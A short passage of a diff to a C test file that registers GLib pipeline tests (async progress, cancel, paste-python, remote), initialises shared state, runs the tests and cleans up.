+  g_test_add_func ("/pipeline/async-progress", test_async_progress);
+  g_test_add_func ("/pipeline/cancel", test_cancel);
+  g_test_add_func ("/pipeline/paste-python", test_paste_python);
+  g_test_add_func ("/pipeline/remote", test_remote);
+  g_mutex_init (&remote.lock);
+  g_queue_init (&remote.answers);
+  ret = g_test_run ();
+  g_free (db_path);
+  return ret;
+}
